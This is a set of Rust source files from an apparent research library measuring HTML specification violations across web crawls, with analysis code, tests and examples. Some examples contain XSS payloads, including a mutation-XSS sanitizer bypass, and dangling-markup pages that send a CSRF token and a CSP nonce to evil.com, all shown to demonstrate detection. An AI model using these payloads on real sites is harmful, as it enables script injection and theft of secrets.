            rec(2, 7, &[ViolationKind::DE2], true), // blocked from stage 1
            rec(3, 7, &[], true),
        ]);
        let rollout = rollout_breakage(&s);
        assert_eq!(rollout.len(), 5);
        assert!((rollout[0].1[7] - 0.0).abs() < 1e-9, "stage 0 blocks nothing");
        assert!((rollout[1].1[7] - 33.33).abs() < 0.1, "stage 1 blocks the DE2 domain");
        assert!((rollout[4].1[7] - 66.67).abs() < 0.1, "stage 4 blocks all violating domains");
        // Monotone in stage.
        for w in rollout.windows(2) {
            assert!(w[1].1[7] >= w[0].1[7]);
        }
    }

    #[test]
    fn kind_trend_series() {
        let s = store_with(vec![
            rec(1, 0, &[ViolationKind::HF4], true),
            rec(1, 7, &[], true),
            rec(2, 7, &[ViolationKind::HF4], true),
            rec(3, 7, &[], true),
        ]);
        let t = kind_trend(&s, ViolationKind::HF4);
        assert!((t[0] - 100.0).abs() < 1e-9);
        assert!((t[7] - 33.33).abs() < 0.1);
    }
}

/// §5.2's churn observation, quantified: between consecutive snapshots, how
/// many (domain, kind) pairs appeared and how many disappeared — "changes
/// to a website can, on the one side, remove violations but, on the other
/// side, introduce new ones."
pub fn violation_churn(store: &ResultStore) -> Vec<ChurnRow> {
    use std::collections::BTreeSet;
    let mut out = Vec::new();
    for w in Snapshot::ALL.windows(2) {
        let (a, b) = (w[0], w[1]);
        let mut added = 0usize;
        let mut removed = 0usize;
        // Domains analyzed in both years.
        let in_a: BTreeMap<u64, &crate::store::DomainYearRecord> =
            store.by_snapshot(a).filter(|r| r.analyzed()).map(|r| (r.domain_id, r)).collect();
        for rb in store.by_snapshot(b).filter(|r| r.analyzed()) {
            let Some(ra) = in_a.get(&rb.domain_id) else { continue };
            let ka: BTreeSet<_> = ra.kinds.iter().collect();
            let kb: BTreeSet<_> = rb.kinds.iter().collect();
            added += kb.difference(&ka).count();
            removed += ka.difference(&kb).count();
        }
        out.push(ChurnRow {
            from: a.crawl_id().to_owned(),
            to: b.crawl_id().to_owned(),
            added,
            removed,
        });
    }
    out
}

/// One year-over-year churn row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ChurnRow {
    pub from: String,
    pub to: String,
    /// (domain, kind) pairs newly violating in `to`.
    pub added: usize,
    /// (domain, kind) pairs fixed between `from` and `to`.
    pub removed: usize,
}

#[cfg(test)]
mod churn_tests {
    use super::*;
    use crate::store::DomainYearRecord;

    #[test]
    fn churn_counts_added_and_removed_pairs() {
        let mut s = ResultStore::new(1, 1.0, 10);
        let rec = |d: u64, y: usize, kinds: &[ViolationKind]| DomainYearRecord {
            domain_id: d,
            domain_name: format!("d{d}"),
            rank: d as u32,
            snapshot: Snapshot::ALL[y],
            pages_found: 5,
            pages_analyzed: 5,
            kinds: kinds.iter().copied().collect(),
            page_counts: Default::default(),
            mitigations: Default::default(),
            kinds_after_autofix: Default::default(),
            uses_math: false,
            pages_faulted: 0,
            pages_degraded: 0,
            pages_quarantined: 0,
        };
        // Domain 1: FB2 in 2015, FB2+DM3 in 2016 (one added).
        s.records.push(rec(1, 0, &[ViolationKind::FB2]));
        s.records.push(rec(1, 1, &[ViolationKind::FB2, ViolationKind::DM3]));
        // Domain 2: HF4 in 2015, clean in 2016 (one removed).
        s.records.push(rec(2, 0, &[ViolationKind::HF4]));
        s.records.push(rec(2, 1, &[]));
        s.finalize();
        let churn = violation_churn(&s);
        assert_eq!(churn.len(), 7);
        assert_eq!(churn[0].added, 1);
        assert_eq!(churn[0].removed, 1);
        assert_eq!(churn[1].added + churn[1].removed, 0);
    }
}
