//! The paper's two side analyses, run end to end.
//!
//! * [`dynamic_study`] — §5.1: check the dynamically loaded fragments of
//!   the top-K domains in the 2021 snapshot (the paper used the top 1K in
//!   July 2021).
//! * [`longtail_study`] — §5.2: compare a random long-tail sample against
//!   the popular universe on violation prevalence and per-domain counts.

use hv_core::{Battery, ViolationKind};
use hv_corpus::auxstudies::{dynamic_fragments, longtail_snapshot};
use hv_corpus::{Archive, Snapshot};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// §5.1 results.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DynamicStudy {
    /// Domains examined (top-K with a 2021 snapshot).
    pub domains: usize,
    /// Fragments collected and checked.
    pub fragments: usize,
    /// Share of domains with ≥1 violating fragment (the paper: "more than
    /// 60%").
    pub violating_share: f64,
    /// Per-kind domain counts, descending (the paper: FB2/DM3 on top,
    /// math-related hardly appears).
    pub kind_counts: Vec<(ViolationKind, usize)>,
}

/// Run the §5.1 dynamic-content pre-study.
pub fn dynamic_study(archive: &Archive, top_k: usize, pages_per_domain: usize) -> DynamicStudy {
    let snap = Snapshot::from_year(2021).expect("2021 snapshot");
    let mut domains = 0usize;
    let mut fragments = 0usize;
    let mut violating = 0usize;
    let mut per_kind: BTreeMap<ViolationKind, usize> = BTreeMap::new();
    // One battery for the whole study; fragments are checked in `<div>`
    // context, like the paper's DOM-subtree extraction.
    let mut battery = Battery::full();
    for d in archive.domains().iter().take(top_k) {
        let Some(cdx) = archive.cdx_lookup(d, snap) else { continue };
        if !cdx.snapshot.utf8_ok {
            continue;
        }
        domains += 1;
        let mut domain_kinds: Vec<ViolationKind> = Vec::new();
        for page in 0..cdx.snapshot.page_count.min(pages_per_domain) {
            for frag in dynamic_fragments(archive.cfg.seed, &cdx.snapshot, page) {
                fragments += 1;
                let report = battery.run_fragment(&frag, "div");
                domain_kinds.extend(report.kinds());
            }
        }
        domain_kinds.sort_unstable();
        domain_kinds.dedup();
        if !domain_kinds.is_empty() {
            violating += 1;
        }
        for k in domain_kinds {
            *per_kind.entry(k).or_insert(0) += 1;
        }
    }
    let mut kind_counts: Vec<(ViolationKind, usize)> = per_kind.into_iter().collect();
    kind_counts.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    DynamicStudy {
        domains,
        fragments,
        violating_share: if domains > 0 { 100.0 * violating as f64 / domains as f64 } else { 0.0 },
        kind_counts,
    }
}

/// §5.2 results: popular vs. long tail in one snapshot.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LongtailStudy {
    pub snapshot: String,
    pub popular_domains: usize,
    pub longtail_domains: usize,
    /// Share of domains with ≥1 violation.
    pub popular_violating_share: f64,
    pub longtail_violating_share: f64,
    /// Mean distinct violation kinds per violating domain.
    pub popular_kinds_per_domain: f64,
    pub longtail_kinds_per_domain: f64,
    /// Namespace-violation (HF5) shares — the complexity signature.
    pub popular_hf5_share: f64,
    pub longtail_hf5_share: f64,
}

/// Run the §5.2 long-tail comparison over `sample` domains per population.
/// Pages are scanned for the long tail; the popular side reuses the same
/// scanning path over the archive's top list.
pub fn longtail_study(archive: &Archive, sample: usize, snap: Snapshot) -> LongtailStudy {
    let mut battery = Battery::full();
    // Popular side.
    let mut pop = PopulationStats::default();
    for d in archive.domains().iter().take(sample) {
        let Some(cdx) = archive.cdx_lookup(d, snap) else { continue };
        if !cdx.snapshot.utf8_ok {
            continue;
        }
        let kinds = scan_snapshot_kinds(archive, &mut battery, &cdx.snapshot);
        pop.add(&kinds);
    }
    // Long-tail side.
    let mut tail = PopulationStats::default();
    for i in 0..sample as u64 {
        let ds = longtail_snapshot(archive.cfg.seed, i, snap, &archive.model);
        if !ds.utf8_ok {
            continue;
        }
        let kinds = scan_snapshot_kinds(archive, &mut battery, &ds);
        tail.add(&kinds);
    }
    LongtailStudy {
        snapshot: snap.crawl_id().to_owned(),
        popular_domains: pop.domains,
        longtail_domains: tail.domains,
        popular_violating_share: pop.violating_share(),
        longtail_violating_share: tail.violating_share(),
        popular_kinds_per_domain: pop.kinds_per_violating_domain(),
        longtail_kinds_per_domain: tail.kinds_per_violating_domain(),
        popular_hf5_share: pop.hf5_share(),
        longtail_hf5_share: tail.hf5_share(),
    }
}

/// Scan all pages of one domain-snapshot and return the distinct kinds.
fn scan_snapshot_kinds(
    archive: &Archive,
    battery: &mut Battery,
    ds: &hv_corpus::DomainSnapshot,
) -> Vec<ViolationKind> {
    let mut kinds: Vec<ViolationKind> = Vec::new();
    for page in 0..ds.page_count.min(100) {
        let body = archive.fetch_page(ds, page);
        if let Ok(text) = std::str::from_utf8(&body) {
            kinds.extend(battery.run_str(text).kinds());
        }
    }
    kinds.sort_unstable();
    kinds.dedup();
    kinds
}

#[derive(Default)]
struct PopulationStats {
    domains: usize,
    violating: usize,
    total_kinds: usize,
    hf5_domains: usize,
}

impl PopulationStats {
    fn add(&mut self, kinds: &[ViolationKind]) {
        self.domains += 1;
        if !kinds.is_empty() {
            self.violating += 1;
            self.total_kinds += kinds.len();
        }
        if kinds.iter().any(|k| {
            matches!(k, ViolationKind::HF5_1 | ViolationKind::HF5_2 | ViolationKind::HF5_3)
        }) {
            self.hf5_domains += 1;
        }
    }

    fn violating_share(&self) -> f64 {
        if self.domains == 0 {
            0.0
        } else {
            100.0 * self.violating as f64 / self.domains as f64
        }
    }

    fn kinds_per_violating_domain(&self) -> f64 {
        if self.violating == 0 {
            0.0
        } else {
            self.total_kinds as f64 / self.violating as f64
        }
    }

    fn hf5_share(&self) -> f64 {
        if self.domains == 0 {
            0.0
        } else {
            100.0 * self.hf5_domains as f64 / self.domains as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hv_corpus::CorpusConfig;

    fn archive() -> Archive {
        Archive::new(CorpusConfig { seed: 0x48_56_31, scale: 0.01 })
    }

    #[test]
    fn dynamic_study_matches_section_5_1() {
        let a = archive();
        let study = dynamic_study(&a, 150, 40);
        assert!(study.domains > 100);
        assert!(study.fragments > 1000);
        // "more than 60% of the websites have at least one violation" —
        // allow a generous band at this sample size.
        assert!(
            (45.0..=85.0).contains(&study.violating_share),
            "violating share {:.1}%",
            study.violating_share
        );
        // FB2 / DM3 in top positions.
        let top2: Vec<ViolationKind> = study.kind_counts.iter().take(2).map(|(k, _)| *k).collect();
        assert!(top2.contains(&ViolationKind::FB2), "{:?}", study.kind_counts);
        assert!(top2.contains(&ViolationKind::DM3), "{:?}", study.kind_counts);
        // Math-related violations hardly appear.
        let hf5_3 = study
            .kind_counts
            .iter()
            .find(|(k, _)| *k == ViolationKind::HF5_3)
            .map(|(_, c)| *c)
            .unwrap_or(0);
        assert!(hf5_3 <= 2);
        // No structural (head/body) kinds in fragments at all.
        for (k, _) in &study.kind_counts {
            assert!(hv_corpus::auxstudies::FRAGMENT_KINDS.contains(k), "{k} in fragments");
        }
    }

    #[test]
    fn longtail_study_matches_section_5_2() {
        let a = archive();
        let study = longtail_study(&a, 120, Snapshot::ALL[6]);
        assert!(study.popular_domains > 80);
        assert!(study.longtail_domains > 80);
        // Same general pattern: both populations mostly violate…
        assert!(study.longtail_violating_share > 40.0);
        // …but popular sites have more violations on average…
        assert!(
            study.popular_kinds_per_domain > study.longtail_kinds_per_domain,
            "popular {:.2} vs longtail {:.2}",
            study.popular_kinds_per_domain,
            study.longtail_kinds_per_domain
        );
        // …and the complex-SVG namespace issues concentrate on top sites.
        assert!(study.popular_hf5_share >= study.longtail_hf5_share);
    }
}
