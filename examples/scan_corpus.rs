//! A miniature version of the paper's eight-year study.
//!
//! Builds a small deterministic corpus (1% of the 24,915-domain universe by
//! default), runs the full Figure-6 pipeline over all eight snapshots, and
//! prints the headline results next to the paper's numbers.
//!
//! ```sh
//! cargo run --release --example scan_corpus            # scale 0.01
//! SCALE=0.05 cargo run --release --example scan_corpus # bigger sample
//! ```

use html_violations::hv_report;
use html_violations::prelude::*;
use std::time::Instant;

fn main() {
    let scale: f64 = std::env::var("SCALE").ok().and_then(|s| s.parse().ok()).unwrap_or(0.01);
    let seed: u64 = std::env::var("SEED").ok().and_then(|s| s.parse().ok()).unwrap_or(0x48_56_31);

    let t0 = Instant::now();
    let archive = Archive::new(CorpusConfig { seed, scale });
    println!(
        "corpus: {} domains (scale {scale}), 8 snapshots {}–{}",
        archive.domains().len(),
        Snapshot::ALL[0].crawl_id(),
        Snapshot::ALL[7].crawl_id()
    );

    let store = IndexedStore::new(scan(&archive, ScanOptions::default()));
    let pages: usize = store.records.iter().map(|r| r.pages_analyzed).sum();
    println!(
        "scanned {} domain-snapshots / {} pages in {:.1}s\n",
        store.records.len(),
        pages,
        t0.elapsed().as_secs_f64()
    );

    // Figure 9 headline.
    let fig9 = store.index.violating_domains_by_year();
    println!("domains with ≥1 violation (Figure 9):");
    println!("  2015: {:.1}%  (paper 74.3%)", fig9[0]);
    println!("  2022: {:.1}%  (paper 68.4%)", fig9[7]);

    // §4.2.
    println!(
        "violated at least once over all years: {:.1}%  (paper 92%)\n",
        store.index.overall_violating_share()
    );

    // Figure 8 top five.
    println!("most common violations over the whole study (Figure 8 top 5):");
    for bar in store.index.overall_distribution().iter().take(5) {
        println!("  {:6} {:>6.2}%  — {}", bar.kind.id(), bar.share, bar.kind.definition());
    }

    // §4.4.
    let fix = store.index.autofix_projection(Snapshot::ALL[7]);
    println!(
        "\nautomatic fixing (2022): {:.1}% violating → {:.1}% after fix ({:.1}% of violating sites fixed; paper: 68% → 37%, 46%)",
        fix.violating_share, fix.after_share, fix.fixed_share
    );

    println!("\nfull report: `cargo run --release -p hv-cli -- repro --scale {scale}`");
    let _ = hv_report::full_report(&store); // exercised in tests; avoid 400-line dump here
}
