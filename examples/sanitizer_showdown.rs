//! A sanitizer vs. the parser's error tolerance.
//!
//! Builds two allowlist sanitizers on the library's fragment parser — one
//! with the permissive posture DOMPurify had before the Figure-1 bypass,
//! one hardened — and runs the paper's payload corpus against both.
//!
//! ```sh
//! cargo run --example sanitizer_showdown
//! ```

use html_violations::hv_core::sanitizer::{is_executable, Sanitizer};

fn main() {
    let payloads: &[(&str, &str)] = &[
        ("plain script", "<script>alert(1)</script><p>hi</p>"),
        ("event handler", r#"<img src="x.png" onerror="alert(1)">"#),
        ("javascript: URL", r#"<a href="javascript:alert(1)">click</a>"#),
        ("FB1 slashes", r#"<img/src="x"/onerror="alert(1)">"#),
        ("FB2 missing space", r#"<img src="x"onerror="alert(1)">"#),
        (
            "Figure-1 mXSS",
            concat!(
                "<math><mtext><table><mglyph><style><!--</style>",
                "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
            ),
        ),
    ];

    let permissive = Sanitizer::permissive();
    let hardened = Sanitizer::hardened();

    println!("{:22} {:12} {:12}", "payload", "permissive", "hardened");
    println!("{}", "-".repeat(48));
    let mut bypassed = 0;
    for (name, payload) in payloads {
        let p_out = permissive.sanitize(payload);
        let h_out = hardened.sanitize(payload);
        // The oracle: does the sanitizer OUTPUT execute when the browser
        // parses it (i.e. after one more parse)?
        let p_fires = is_executable(&p_out);
        let h_fires = is_executable(&h_out);
        if p_fires {
            bypassed += 1;
        }
        println!(
            "{:22} {:12} {:12}",
            name,
            if p_fires { "BYPASSED ✗" } else { "blocked ✓" },
            if h_fires { "BYPASSED ✗" } else { "blocked ✓" },
        );
        assert!(!h_fires, "the hardened sanitizer must never be bypassed");
    }

    println!(
        "\nThe permissive configuration was bypassed {bypassed} time(s) — every bypass rides\n\
         the parser's error tolerance (foster parenting + foreign-content rules), which is\n\
         exactly the root cause the paper argues should be deprecated (§5.3)."
    );
    assert!(bypassed >= 1, "the Figure-1 payload must demonstrate the bypass");
}
