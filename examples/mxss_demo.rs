//! The Figure-1 mutation XSS, step by step.
//!
//! Reproduces the DOMPurify < 2.1 bypass mechanics from the paper's §2.2:
//! an apparently harmless payload mutates through one parse+serialize round
//! (what a sanitizer does) into markup that parses *differently* the second
//! time, releasing the `<img onerror>` payload.
//!
//! ```sh
//! cargo run --example mxss_demo
//! ```

use html_violations::prelude::*;
use html_violations::spec_html::{self, NodeData};

fn main() {
    // Figure 1a: the initial payload handed to the sanitizer. The alert
    // lives inside a title attribute — harmless on first sight.
    let payload = concat!(
        "<math><mtext><table><mglyph><style><!--</style>",
        "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    );
    println!("payload (Figure 1a):\n  {payload}\n");

    // First parse — what the sanitizer's parser sees.
    let first = parse_document(payload);
    println!("first parse:");
    for ev in &first.events {
        println!("  tree event: {:?}", ev.kind);
    }

    // Serialize — the sanitizer's output (Figure 1b).
    let body = first.dom.find_html("body").expect("body");
    let sanitized = spec_html::serializer::serialize_children(&first.dom, body);
    println!("\nserialized output (Figure 1b):\n  {sanitized}\n");

    // Observe the two mutations the paper describes:
    assert!(
        sanitized.contains("--><img src=1 onerror=alert(1)>"),
        "entities decoded in the attribute"
    );
    let mglyph_pos = sanitized.find("<mglyph>").expect("mglyph present");
    let table_pos = sanitized.find("<table>").expect("table present");
    assert!(mglyph_pos < table_pos, "elements moved in front of the table");
    println!("mutation 1: HTML entities in the title attribute were decoded");
    println!("mutation 2: mglyph/style were foster-parented in front of the table");

    // Second parse — what the browser does with the sanitizer's output.
    // Inside <math>, the <style> is a MathML element: its `<!--` is now a
    // real comment that swallows markup until the `-->` in the title text,
    // and the <img> that follows is live.
    let second = parse_document(&sanitized);
    let mut live_imgs = Vec::new();
    for id in second.dom.all_elements() {
        let e = second.dom.element(id).unwrap();
        if e.name == "img" {
            if let Some(onerror) = e.attr("onerror") {
                live_imgs.push((e.attr("src").unwrap_or("?").to_owned(), onerror.to_owned()));
            }
        }
    }
    println!("\nsecond parse: {} live <img onerror> element(s):", live_imgs.len());
    for (src, onerror) in &live_imgs {
        println!("  <img src={src} onerror={onerror}>   ← fires alert(1)");
    }
    assert!(!live_imgs.is_empty(), "the mXSS must re-arm on the second parse");

    // And show the comment that made it possible.
    let comments = second
        .dom
        .descendants(second.dom.root())
        .filter(|&id| matches!(second.dom.node(id).data, NodeData::Comment(_)))
        .count();
    println!(
        "\n({comments} comment node(s) after the second parse — the `<!--` came alive in MathML)"
    );
    println!("\nThis is why HF4 (broken tables) and HF5 (wrong namespaces) are security-relevant.");
}
