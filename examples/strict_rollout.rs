//! The paper's §5.3.2 roadmap in action: the STRICT-PARSER header and its
//! staged deprecation of error tolerance, simulated against a scan of the
//! synthetic eight-year corpus.
//!
//! ```sh
//! cargo run --release --example strict_rollout
//! ```

use html_violations::hv_core::strict::{evaluate, Decision, EnforcementList, StrictPolicy};
use html_violations::prelude::*;

fn main() {
    // 1. The header itself.
    println!("=== the STRICT-PARSER header ===\n");
    for raw in ["strict", "default; report-to https://monitor.example/r", "unsafe"] {
        let policy = StrictPolicy::parse(raw).unwrap();
        println!("  STRICT-PARSER: {:<45} -> {:?}", raw, policy.mode);
    }

    // 2. What a compliant parser does with a violating page at each stage.
    println!("\n=== one violating page through the rollout ===\n");
    let page = r#"<img src="x.png"onerror="track()"><select><option>a"#; // FB2 + DE2
    let report = Battery::full().run_str(page);
    println!("page violations: {:?}\n", report.kinds().iter().map(|k| k.id()).collect::<Vec<_>>());
    for stage in 0..=4u8 {
        let list = EnforcementList::stage(stage);
        let (decision, _) = evaluate(&report, &StrictPolicy::default_mode(), &list);
        let verdict = match &decision {
            Decision::Render => "renders".to_owned(),
            Decision::RenderWithWarnings { warned } => {
                format!("renders with {} console warning(s)", warned.len())
            }
            Decision::Block { blocking } => format!(
                "BLOCKED ({})",
                blocking.iter().map(|k| k.id()).collect::<Vec<_>>().join(", ")
            ),
        };
        println!("  stage {stage} ({:>2} checks enforced): {verdict}", list.len());
    }

    // 3. The deployment question: breakage per stage per year, measured.
    println!("\n=== measured breakage per rollout stage ===\n");
    let archive = Archive::new(CorpusConfig { seed: 0x48_56_31, scale: 0.01 });
    let store = IndexedStore::new(scan(&archive, ScanOptions::default()));
    println!("{:28}{:>10}{:>10}", "", 2015, 2022);
    for (stage, series) in store.index.rollout_breakage() {
        println!("  stage {stage} would block      {:>8.2}% {:>8.2}%", series[0], series[7]);
    }
    println!(
        "\nStage 1 (math + dangling markup) breaks well under 1% of domains — the\n\
         \"definitely some parts of the standard could be made stricter\" of §4.2.\n\
         Stage 4 is today's 68%: the reason the paper proposes a *staged* rollout."
    );
}
