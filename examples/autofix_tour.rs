//! The §4.4 automatic repair, applied to the paper's own examples of
//! real-world mistakes (Figures 13–15).
//!
//! ```sh
//! cargo run --example autofix_tour
//! ```

use html_violations::prelude::*;

fn show(title: &str, input: &str) {
    println!("=== {title} ===");
    println!("input:\n  {}", input.replace('\n', "\n  "));
    let outcome = auto_fix(input);
    println!("violations before: {:?}", outcome.before.iter().map(|k| k.id()).collect::<Vec<_>>());
    println!("fixed output:\n  {}", outcome.fixed_html.trim().replace('\n', "\n  "));
    println!("violations after:  {:?}", outcome.after.iter().map(|k| k.id()).collect::<Vec<_>>());
    println!(
        "eliminated automatically: {:?}\n",
        outcome.eliminated().iter().map(|k| k.id()).collect::<Vec<_>>()
    );
}

fn main() {
    // Figure 13 line 6: the iframe whose missing `>` turns `<` into an
    // attribute (FB2).
    show("Figure 13: broken iframe", r#"<iframe src="https://foobar"</iframe>"#);

    // Figure 13 line 8: the Côte d'Ivoire quoting accident (FB2).
    show(
        "Figure 13: quote inside quoted value",
        "<select><option value='Cote d'Ivoire'>Cote d'Ivoire</option></select>",
    );

    // Figure 13 line 10: nested quotes breaking an onClick (FB1).
    show(
        "Figure 13: slash interpreted as whitespace",
        r#"<a href="/go" target="_blank" onClick="img=new Image();img.src="/foo?cl=16796306";">x</a>"#,
    );

    // Figure 14: a refactor added alt attributes although some existed
    // (DM3).
    show(
        "Figure 14: duplicate alt attributes",
        r#"<img src="p.jpg" alt="" width="90" alt="Product photo">"#,
    );

    // Figure 15: the meta redirect outside the head (DM1).
    show(
        "Figure 15: meta refresh outside head",
        "<html><head><title>Redirection</title></head>\n<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=HTTP://wds.iea.org/wds\">\n<body>Page has moved <a href=\"http://wds.iea.org/wds\">here</a></body></html>",
    );

    // What automation must NOT touch: an unterminated textarea (DE1) — the
    // fixer cannot know where the developer meant to close it.
    let de1 = "<body><form action=\"/f\"><input type=\"submit\"><textarea>\n<p>swallowed</p>";
    let outcome = auto_fix(de1);
    println!("=== DE1 stays manual ===");
    println!(
        "DE1 fixability: {:?}; the checker classifies it for a human.",
        ViolationKind::DE1.fixability()
    );
    assert!(outcome.before.contains(&ViolationKind::DE1));
}
