//! Dangling-markup exfiltration, three ways (Figures 2, 3 and 5).
//!
//! Shows — using the real parser — exactly what content an attacker's
//! non-terminated markup absorbs, and how the DE checkers recognize each
//! attack shape.
//!
//! ```sh
//! cargo run --example dangling_markup
//! ```

use html_violations::prelude::*;

fn main() {
    textarea_form_exfiltration();
    nonce_stealing();
    window_name_exfiltration();
}

/// Figure 3: the injected form + submit + unterminated textarea. Everything
/// after the injection becomes the textarea's value and is POSTed to
/// evil.com when the victim clicks.
fn textarea_form_exfiltration() {
    println!("=== Figure 3: textarea exfiltration (DE1) ===\n");
    let page = "<body>\n\
        <!-- attacker-injected: -->\n\
        <form action=\"https://evil.com\"><input type=\"submit\"><textarea>\n\
        <!-- legitimate page continues: -->\n\
        <p>My little secret</p>\n\
        <p>CSRF token: 53cr3t-t0k3n</p>";
    let doc = parse_document(page);
    let ta = doc.dom.find_html("textarea").expect("textarea");
    println!("content absorbed into the textarea:\n---\n{}\n---", doc.dom.text_content(ta).trim());

    let report = Battery::full().run_str(page);
    assert!(report.has(ViolationKind::DE1));
    println!("checker: DE1 fires ({} finding(s))\n", report.findings.len());
}

/// Figure 2: a non-terminated attribute swallows the page's nonced script
/// tag; the attacker's script inherits the nonce.
fn nonce_stealing() {
    println!("=== Figure 2: nonce stealing (DE3_2) ===\n");
    let page = "<body>\n\
        <script src=\"https://evil.com/x.js\" inj=\"\n\
        <p>The brown fox jumps over the lazy dog</p>\n\
        <script id=\"in-action\" nonce=\"the-rnd-nonce\">\n\
        // do something...\n\
        </script>";
    let doc = parse_document(page);
    // The attacker's script element survives; the inj attribute swallowed
    // the markup up to the victim script's first quote, and — the point of
    // the attack — the victim's nonce now sits as an attribute ON THE
    // ATTACKER'S element.
    let script = doc.dom.find_html("script").expect("script");
    let e = doc.dom.element(script).unwrap();
    println!("surviving script src:   {:?}", e.attr("src"));
    println!("stolen nonce attribute: {:?}", e.attr("nonce"));
    let inj = e.attr("inj").unwrap_or("");
    println!("swallowed into inj attribute:\n---\n{}\n---", inj.trim());
    assert_eq!(e.attr("nonce"), Some("the-rnd-nonce"), "the CSP nonce must transfer");
    assert!(inj.to_lowercase().contains("<script"), "inj absorbed the victim's open tag");

    let report = Battery::full().run_str(page);
    assert!(report.has(ViolationKind::DE3_2));
    assert!(report.mitigations.script_in_attribute);
    println!(
        "checker: DE3_2 fires; Chromium's `<script`-in-attribute mitigation would catch this\n"
    );
}

/// Figure 5: an unterminated target attribute absorbs following content;
/// the window *name* leaks cross-origin on the next navigation.
fn window_name_exfiltration() {
    println!("=== Figure 5: window-name exfiltration (DE3_3) ===\n");
    let page = "<body>\n\
        <a href=\"https://evil.com\">click me</a>\n\
        <base target='\n\
        <p>secret</p></div id='a'></div>\n\
        <p>rest of page</p>";
    let doc = parse_document(page);
    let base = doc.dom.find_html("base").expect("base");
    let target = doc.dom.element(base).unwrap().attr("target").unwrap_or("");
    println!("window name for the next click:\n---\n{}\n---", target.trim());
    assert!(target.contains("secret"));

    let report = Battery::full().run_str(page);
    assert!(report.has(ViolationKind::DE3_3));
    println!("checker: DE3_3 fires (newline inside target attribute)");
}
