//! Quickstart: parse a document, list its specification violations, and fix
//! what can be fixed automatically.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use html_violations::prelude::*;

fn main() {
    // A small page with several of the paper's most common violations.
    let page = r#"<!DOCTYPE html>
<html>
<head>
  <div class="oops">modal markup that does not belong in head</div>
  <title>demo</title>
</head>
<body>
  <img src="logo.png"onerror="track()" alt="logo">
  <nav id="menu" class="top" class="wide">
    <a href="/a/">a</a>
  </nav>
  <table><tr><strong>headline in a row</strong></tr><tr><td>cell</td></tr></table>
</body>
</html>"#;

    let report = Battery::full().run_str(page);
    println!("found {} violation finding(s):\n", report.findings.len());
    for f in &report.findings {
        println!("  {:6} {:30} @{:<5} {}", f.kind.id(), f.kind.definition(), f.offset, f.evidence);
    }

    // The §4.4 automatic repair: FB/DM violations disappear; HF ones need a
    // developer.
    let outcome = auto_fix(page);
    println!(
        "\nautomatic fix eliminates: {:?}",
        outcome.eliminated().iter().map(|k| k.id()).collect::<Vec<_>>()
    );
    println!(
        "still needs a human:      {:?}",
        outcome.after.iter().map(|k| k.id()).collect::<Vec<_>>()
    );

    // The parser substrate is a public API too.
    let doc = parse_document(page);
    println!(
        "\nparser recorded {} tokenizer error(s) and {} tree event(s)",
        doc.errors.len(),
        doc.events.len()
    );
}
