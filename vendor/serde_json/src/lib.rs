//! Offline stand-in for `serde_json`.
//!
//! JSON text <-> [`Value`] conversion plus the `json!` macro, built on the
//! vendored `serde` facade's `Value` data model. Covers exactly the API
//! surface this workspace uses: `to_string`, `to_string_pretty`,
//! `to_writer`, `from_str`, `from_slice`, `from_reader`, `to_value`,
//! `from_value`, and `json!`.

// Vendored stand-in: keep the first-party clippy gate quiet here.
#![allow(clippy::all)]

use std::io;

pub use serde::{Error, Map, Number, Value};

pub type Result<T> = std::result::Result<T, Error>;

// ---------------------------------------------------------------------------
// Serialization.

/// Convert any `Serialize` into a [`Value`] tree.
pub fn to_value<T: serde::Serialize + ?Sized>(value: &T) -> Value {
    value.to_value()
}

/// Convert a [`Value`] tree into any `Deserialize`.
pub fn from_value<T: serde::Deserialize>(value: &Value) -> Result<T> {
    T::from_value(value)
}

/// Compact JSON text.
pub fn to_string<T: serde::Serialize + ?Sized>(value: &T) -> Result<String> {
    let mut out = String::new();
    write_compact(&value.to_value(), &mut out);
    Ok(out)
}

/// Human-readable JSON text (two-space indent).
pub fn to_string_pretty<T: serde::Serialize + ?Sized>(value: &T) -> Result<String> {
    let mut out = String::new();
    write_pretty(&value.to_value(), &mut out, 0);
    Ok(out)
}

/// Compact JSON to an `io::Write`.
pub fn to_writer<W: io::Write, T: serde::Serialize + ?Sized>(
    mut writer: W,
    value: &T,
) -> Result<()> {
    let text = to_string(value)?;
    writer
        .write_all(text.as_bytes())
        .and_then(|_| writer.flush())
        .map_err(|e| Error::msg(format!("write error: {e}")))
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{08}' => out.push_str("\\b"),
            '\u{0C}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

fn write_compact(v: &Value, out: &mut String) {
    match v {
        Value::Null => out.push_str("null"),
        Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Value::Number(n) => out.push_str(&n.render()),
        Value::String(s) => write_escaped(s, out),
        Value::Array(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                write_compact(item, out);
            }
            out.push(']');
        }
        Value::Object(m) => {
            out.push('{');
            for (i, (k, item)) in m.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                write_escaped(k, out);
                out.push(':');
                write_compact(item, out);
            }
            out.push('}');
        }
    }
}

fn indent(out: &mut String, depth: usize) {
    for _ in 0..depth {
        out.push_str("  ");
    }
}

fn write_pretty(v: &Value, out: &mut String, depth: usize) {
    match v {
        Value::Array(items) if !items.is_empty() => {
            out.push_str("[\n");
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push_str(",\n");
                }
                indent(out, depth + 1);
                write_pretty(item, out, depth + 1);
            }
            out.push('\n');
            indent(out, depth);
            out.push(']');
        }
        Value::Object(m) if !m.is_empty() => {
            out.push_str("{\n");
